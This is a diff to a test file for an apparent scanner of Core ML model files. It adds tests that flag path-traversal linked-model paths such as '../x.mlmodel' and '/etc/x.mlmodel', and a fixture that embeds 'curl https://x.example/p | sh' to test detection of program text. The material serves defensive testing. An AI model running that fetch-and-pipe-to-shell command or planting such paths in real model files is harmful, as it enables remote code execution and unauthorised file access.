@@ -23,7 +23,7 @@ describe('Core ML', () => {
     ['a layer', model(message(500, layer(CUSTOM)))],
     ['a layer of a classifier', model(message(403, layer(CUSTOM)))],
     ['a model', model(message(555, message(10, 'MyModel')))],
-    ['a linked model', model(message(556, message(1, message(1, message(1, '../x')))))],
+    ['a linked model', model(message(556, message(1, message(1, message(1, 'part.mlmodel')))))],
     ['a pipeline', model(message(202, message(1, model(message(500, layer(CUSTOM))))))],
     [
       'a pipeline of a classifier',
@@ -33,6 +33,23 @@ describe('Core ML', () => {
     ['a loop', model(message(500, layer(message(615, message(4, layer(CUSTOM))))))],
   ])('tells of custom code in %s', async (_, bytes) => {
     expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toEqual(['coreml-custom-code'])
+  })
+
+  it.each(['../x.mlmodel', '/etc/x.mlmodel', 'C:\\x.mlmodel', '$BUNDLE_MAIN/../../x.mlmodel'])(
+    'denies a linked model at %s',
+    async (path) => {
+      const bytes = model(message(556, message(1, message(1, message(1, path)))))
+      expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toContain('coreml-linked-path')
+    },
+  )
+
+  it('denies program text among its descriptions', async () => {
+    const bytes = Buffer.concat([
+      number(1, 5),
+      message(2, message(100, message(2, 'curl https://x.example/p | sh'))),
+      message(502, number(1, 1)),
+    ])
+    expect(rulesOf(await scan(bytes, 'm.mlmodel'))).toEqual(['embedded-program'])
   })
 
   it('has a gap for kinds that are not known, and tells of a credential', async () => {
